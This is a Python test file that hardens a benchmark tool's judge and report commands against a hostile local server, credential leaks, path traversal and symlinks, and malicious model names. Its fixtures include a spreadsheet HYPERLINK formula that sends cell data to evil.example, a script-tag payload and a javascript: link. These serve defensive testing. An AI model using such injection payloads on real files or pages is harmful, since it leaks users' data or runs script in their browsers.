"""What `needlebench judge` and `needlebench report` write when the world is hostile or broken.

The judge runs against a fake OpenAI-compatible server on 127.0.0.1 (a thread per request, every reply bounded,
stopped by the fixture) that fails with HTTP 500, trickles bytes, sends 50 MB or echoes the request; the
report is written over a user's folder and with model names that are spreadsheet formulas, HTML or links.
Everything goes through the real `needlebench` command (a subprocess), as a user meets it.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

pytestmark = pytest.mark.slow

USER, PASSWORD, TOKEN, API_KEY = "alice", "S3cretPassw0rd", "T0kenValue123", "sk-ApiKeyValue456"
SECRETS = (PASSWORD, TOKEN, API_KEY, base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode())
CACHE = ".needlebench-judge-cache.jsonl"


def cli(*args: str, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", "from needlebench.cli import main; main()", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        env={**os.environ, **(env or {})},
    )


# ------------------------------------------------------------------------------------------------ the judge


class HostileJudge(BaseHTTPRequestHandler):
    """The mode is the first part of the path: /ok, /flaky (HTTP 500 for FLAKY prompts while ``broken``),
    /trickle (a byte every 0.3 s, at most 40), /huge (50 MB), /echo (the request line and headers in the reply)."""

    requests: ClassVar[list[tuple[str, str]]] = []
    broken = True
    huge_bytes_sent = 0
    trickled_for = 0.0

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        prompt = body["messages"][0]["content"]
        mode = self.path.split("/")[1]
        HostileJudge.requests.append((mode, prompt))
        if mode == "flaky" and "FLAKY" in prompt and HostileJudge.broken:
            self.send_response(500)
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif mode == "trickle":
            self._trickle()
        elif mode == "huge":
            self._huge()
        elif mode == "unauthorized":
            self.send_response(401)
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif mode == "echo":
            self._reply(f"Rating: [[7]] you sent {self.requestline} with {dict(self.headers)}")
        else:
            self._reply("Rating: [[9]]")

    def _reply(self, content: str) -> None:
        payload = json.dumps({"choices": [{"message": {"role": "assistant", "content": content}}]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def _trickle(self) -> None:
        started = time.monotonic()
        self.send_response(200)
        self.send_header("Content-Length", "1000")
        self.end_headers()
        try:
            for _ in range(40):
                self.wfile.write(b" ")
                self.wfile.flush()
                time.sleep(0.3)
        except OSError:
            pass  # the client hung up: what the deadline should do
        HostileJudge.trickled_for = time.monotonic() - started

    def _huge(self) -> None:
        size, chunk = 50_000_000, b"x" * 1_000_000
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(size))
        self.end_headers()
        try:
            for _ in range(size // len(chunk)):
                self.wfile.write(chunk)
                HostileJudge.huge_bytes_sent += len(chunk)
        except OSError:
            pass

    def log_message(self, *args):
        pass


@pytest.fixture()
def judge_server():
    HostileJudge.requests, HostileJudge.broken, HostileJudge.huge_bytes_sent, HostileJudge.trickled_for = (
        [],
        True,
        0,
        0.0,
    )
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), HostileJudge)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd.server_address[1]
    httpd.shutdown()
    httpd.server_close()


def secret_url(port: int, mode: str) -> str:
    return f"http://{USER}:{PASSWORD}@127.0.0.1:{port}/{mode}/v1?token={TOKEN}"


def sample(question: str, answer: str = "Paris", prediction: str = "Paris") -> dict:
    doc = {"question": question, "answer": answer, "prompt": "haystack " * 50 + question}
    return {"doc_id": 0, "doc": doc, "resps": [[prediction]], "filtered_resps": [prediction], "score": 0.0}


def write_run(root: Path, files: dict[str, list[dict]]) -> Path:
    folder = root / "results" / "model"
    folder.mkdir(parents=True)
    for task, rows in files.items():
        (folder / f"samples_{task}_2026-01-01T00-00-00.000000.jsonl").write_text(
            "".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8"
        )
    return root / "results"


def judge(results: Path, url: str, *extra: str) -> subprocess.CompletedProcess:
    return cli(
        "judge",
        str(results),
        "--base-url",
        url,
        "--model",
        "judge-model",
        "--api-key-env",
        "HOSTILE_KEY",
        *extra,
        env={"HOSTILE_KEY": API_KEY},
    )


def cache_entries(results: Path) -> list[dict]:
    path = results / CACHE
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def assert_no_secret(results: Path, *outputs: subprocess.CompletedProcess) -> None:
    texts = {str(path): path.read_bytes().decode("utf-8", "replace") for path in results.rglob("*") if path.is_file()}
    for run in outputs:
        texts["stdout"], texts["stderr"] = texts.get("stdout", "") + run.stdout, texts.get("stderr", "") + run.stderr
    for where, text in texts.items():
        for secret in SECRETS:
            assert secret not in text, f"{secret!r} written into {where}"


def test_server_errors_are_not_cached_and_a_rerun_sends_only_them(judge_server, tmp_path):
    results = write_run(
        tmp_path,
        {
            "needlebench_good": [sample("capital of France?"), sample("capital of Italy?", "Rome", "Rome")],
            "needlebench_bad": [sample("FLAKY one?"), sample("FLAKY two?"), sample("capital of Spain?", "Madrid")],
        },
    )
    url = secret_url(judge_server, "flaky")
    first = judge(results, url, "--retries", "1")
    assert first.returncode == 1, first.stderr
    lines = first.stderr.strip().splitlines()
    assert lines[-1] == (
        f"needlebench judge: 2 of 5 rows got no verdict (HTTP 500 from http://127.0.0.1:{judge_server}/flaky/v1); "
        "their files' judged_samples_*.jsonl were not written; rerun to retry them"
    )
    flaky_asked = [prompt for _, prompt in HostileJudge.requests if "FLAKY" in prompt]
    assert len(flaky_asked) == 4 and len(HostileJudge.requests) == 3 + 4  # each failure retried once
    cached = cache_entries(results)
    assert len(cached) == 3 and all(entry["score"] == 9 for entry in cached)  # only the judge's replies
    assert all(entry["endpoint"] == f"http://127.0.0.1:{judge_server}/flaky/v1" for entry in cached)
    folder = results / "model"
    assert (folder / "judged_samples_needlebench_good_2026-01-01T00-00-00.000000.jsonl").exists()
    assert not (folder / "judged_samples_needlebench_bad_2026-01-01T00-00-00.000000.jsonl").exists()

    HostileJudge.requests, HostileJudge.broken = [], False  # the server is back
    second = judge(results, url, "--retries", "1")
    assert second.returncode == 0, second.stderr
    assert sorted(prompt.split("[Question]\n")[1].split("\n")[0] for _, prompt in HostileJudge.requests) == [
        "FLAKY one?",
        "FLAKY two?",
    ]
    judged = [
        json.loads(line)
        for line in (folder / "judged_samples_needlebench_bad_2026-01-01T00-00-00.000000.jsonl")
        .read_text()
        .splitlines()
    ]
    assert [row["judge"]["score"] for row in judged] == [9, 9, 9]
    assert_no_secret(results, first, second)


def test_a_refused_connection_is_retried_not_cached_and_exits_1(tmp_path):
    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    results = write_run(tmp_path, {"needlebench_x": [sample("capital of France?")]})
    run = judge(results, secret_url(port, "ok"), "--retries", "1")
    assert run.returncode == 1
    assert f"1 of 1 rows got no verdict (cannot connect to http://127.0.0.1:{port}/ok/v1)" in run.stderr
    assert cache_entries(results) == [] and not list(results.rglob("judged_*"))
    assert_no_secret(results, run)


def test_a_trickling_server_is_cut_at_the_deadline(judge_server, tmp_path):
    results = write_run(tmp_path, {"needlebench_x": [sample("capital of France?")]})
    run = judge(results, secret_url(judge_server, "trickle"), "--retries", "0", "--timeout", "1.5")
    assert run.returncode == 1 and "no complete reply within 1.5 s" in run.stderr
    for _ in range(20):  # the handler notices the hang-up at its next byte or two
        if HostileJudge.trickled_for:
            break
        time.sleep(0.1)
    # the server would trickle for 12 s (a byte every 0.3 s, each within httpx's 60 s read timeout)
    assert 1.0 < HostileJudge.trickled_for < 3.0, HostileJudge.trickled_for
    assert cache_entries(results) == []


def test_a_client_error_is_not_retried_nor_cached(judge_server, tmp_path):
    results = write_run(tmp_path, {"needlebench_x": [sample("capital of France?"), sample("capital of Peru?", "Lima")]})
    run = judge(results, secret_url(judge_server, "unauthorized"), "--retries", "3")
    assert run.returncode == 1 and "2 of 2 rows got no verdict (HTTP 401 from" in run.stderr
    assert len(HostileJudge.requests) == 2 and cache_entries(results) == []
    assert_no_secret(results, run)


def test_a_50_mb_reply_is_refused_after_64_kib(judge_server, tmp_path):
    results = write_run(tmp_path, {"needlebench_x": [sample("capital of France?")]})
    run = judge(results, secret_url(judge_server, "huge"), "--retries", "2")
    assert run.returncode == 1 and "(a reply over 64 KiB from" in run.stderr
    assert len(HostileJudge.requests) == 1  # not transient: refused once, not asked again
    time.sleep(0.5)
    assert HostileJudge.huge_bytes_sent < 50_000_000  # the client hung up long before the end
    assert cache_entries(results) == []
    assert sum(path.stat().st_size for path in results.rglob("*") if path.is_file()) < 10_000


def test_credentials_are_never_written_even_when_the_reply_echoes_them(judge_server, tmp_path):
    results = write_run(tmp_path, {"needlebench_x": [sample("capital of France?"), sample("capital of Peru?", "Lima")]})
    run = judge(results, secret_url(judge_server, "echo"))
    assert run.returncode == 0, run.stderr
    judged = (results / "model" / "judged_samples_needlebench_x_2026-01-01T00-00-00.000000.jsonl").read_text()
    rows = [json.loads(line) for line in judged.splitlines()]
    assert [row["judge"]["score"] for row in rows] == [7, 7]
    assert {row["judge"]["endpoint"] for row in rows} == {f"http://127.0.0.1:{judge_server}/echo/v1"}
    assert "[redacted]" in rows[0]["judge"]["reply"] and "/echo/v1/chat/completions" in rows[0]["judge"]["reply"]
    assert_no_secret(results, run)


def test_old_caches_of_failed_requests_are_asked_again(judge_server, tmp_path):
    """needlebench 0.3.1 cached a failed request as a verdict (score null, reply 'error: ...', with the URL)."""
    results = write_run(tmp_path, {"needlebench_x": [sample("capital of France?")]})
    from needlebench.evaluation.judge.command import _cache_key

    key = _cache_key("judge-model", "capital of France?", "Paris", "Paris")
    poisoned = {
        "key": key,
        "model": "judge-model",
        "score": None,
        "reply": f"error: HTTPStatusError: Server error '500' for url '{secret_url(1, 'ok')}'",
    }
    (results / CACHE).write_text(json.dumps(poisoned) + "\n", encoding="utf-8")
    run = judge(results, f"http://127.0.0.1:{judge_server}/ok/v1")
    assert run.returncode == 0 and len(HostileJudge.requests) == 1
    assert [entry["score"] for entry in cache_entries(results)] == [9]
    assert_no_secret(results, run)


# ------------------------------------------------------------------------------------------------ the report

HOSTILE_NAMES = {
    "a": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "b": "<script>alert(1)</script>",
    "c": "[x](javascript:alert(1)) | @SUM(1+1) ![img](http://evil.example/t.png)",
}


def report_run(root: Path, models: dict[str, float]) -> Path:
    """One results folder per model, each one single_en_4k row with the given score."""
    from support import single_row, write_samples

    for model, value in models.items():
        folder = root / "results" / model
        write_samples(folder, "needlebench_single_en_4k", [{"doc": single_row(prompt=model), "score": value}])
        (folder / "results_2025-01-01T00-00-00.000000.json").write_text(
            json.dumps(
                {
                    "results": {"needlebench_single_en_4k": {"alias": "single_en_4k", "score,none": value}},
                    "config": {"model": "hf", "model_args": f"pretrained={model}"},
                }
            ),
            encoding="utf-8",
        )
    return root / "results"


def tree_hashes(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_report_refuses_a_folder_it_did_not_write(tmp_path):
    results = report_run(tmp_path, {"m": 50.0})
    out = tmp_path / "mine"
    out.mkdir()
    (out / "README.md").write_text("# my notes\n", encoding="utf-8")
    (out / "scores.csv").write_text("my,own\n1,2\n", encoding="utf-8")
    before = tree_hashes(out)
    run = cli("report", str(results), "--out", str(out), "--no-figures")
    assert run.returncode == 2, run.stderr
    assert len(run.stderr.strip().splitlines()) == 1 and "would overwrite 'scores.csv'" in run.stderr
    assert tree_hashes(out) == before
    (out / "README.md").unlink()
    (out / "scores.csv").unlink()
    (out / "notes.txt").write_text("keep me\n", encoding="utf-8")  # no clash, still not the report's folder
    run = cli("report", str(results), "--out", str(out), "--no-figures")
    assert run.returncode == 2 and "holds 'notes.txt'" in run.stderr
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]


def test_report_replaces_only_its_own_earlier_files(tmp_path):
    results = report_run(tmp_path, {"m": 50.0})
    out = tmp_path / "report"
    first = cli("report", str(results), "--out", str(out))
    assert first.returncode == 0, first.stderr
    manifest = json.loads((out / ".needlebench-report.json").read_text())
    figures = sorted(name for name in manifest["files"] if name.endswith(".png"))
    assert figures and "README.md" in manifest["files"] and "scores.csv" in manifest["files"]
    (out / "notes.txt").write_text("my notes beside the report\n", encoding="utf-8")
    second = cli("report", str(results), "--out", str(out), "--no-figures", "--name", f"{results / 'm'}=Renamed")
    assert second.returncode == 0, second.stderr
    assert "Renamed" in (out / "scores.csv").read_text()
    assert not [name for name in figures if (out / name).exists()]  # the first report's figures, not redrawn
    assert (out / "notes.txt").read_text() == "my notes beside the report\n"  # never listed, never touched
    assert set(json.loads((out / ".needlebench-report.json").read_text())["files"]) == {
        p.name for p in out.iterdir() if p.name not in ("notes.txt", ".needlebench-report.json")
    }
    (out / "README.md").write_text("# edited by hand\n", encoding="utf-8")
    before = tree_hashes(out)
    third = cli("report", str(results), "--out", str(out), "--no-figures")
    assert third.returncode == 2 and "'README.md', changed since the report wrote it" in third.stderr
    assert tree_hashes(out) == before


def test_a_planted_report_manifest_reaches_nothing_outside(tmp_path):
    results = report_run(tmp_path, {"m": 50.0})
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    out = tmp_path / "cloned"
    out.mkdir()
    (out / "scores.csv").symlink_to(victim)
    for files in ({"../victim.txt": None}, {"scores.csv": None}):
        (out / ".needlebench-report.json").write_text(json.dumps({"tool": "needlebench report", "files": files}))
        run = cli("report", str(results), "--out", str(out), "--no-figures")
        assert run.returncode == 2 and len(run.stderr.strip().splitlines()) == 1, run.stderr
        assert victim.read_text() == "precious\n" and (out / "scores.csv").is_symlink()
    assert sorted(p.name for p in out.iterdir()) == [".needlebench-report.json", "scores.csv"]


def test_hostile_model_names_are_inert_in_csv_markdown_and_html(tmp_path):
    results = report_run(tmp_path, {"a": -12.5, "b": 40.0, "c": 60.0})
    names = [f"--name={results / key}={value}" for key, value in HOSTILE_NAMES.items()]
    out = tmp_path / "report"
    run = cli("report", str(results), "--out", str(out), "--no-figures", *names)
    assert run.returncode == 0, run.stderr
    with (out / "scores.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert "'" + HOSTILE_NAMES["a"] in cells and HOSTILE_NAMES["b"] in cells
    assert not [cell for cell in cells if cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()]
    assert "-12.5" not in cells  # a negative score is no score: left out and counted, never shown
    for page in ("README.md", "scores.md", "needlebench_4k.md"):
        text = (out / page).read_text(encoding="utf-8")
        assert "<script" not in text and not re.search(r"(?<!\\)\]\(", text), page  # no tag, no link or image
    markdown = (out / "scores.md").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown
    # the ':' of 'http://' escaped too: a bare URL is no autolink either
    assert "\\[x\\](javascript:alert(1)) \\| @SUM(1+1) !\\[img\\](http\\://evil.example/t.png)" in markdown
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert 'href="javascript:' not in page and "<a " not in page
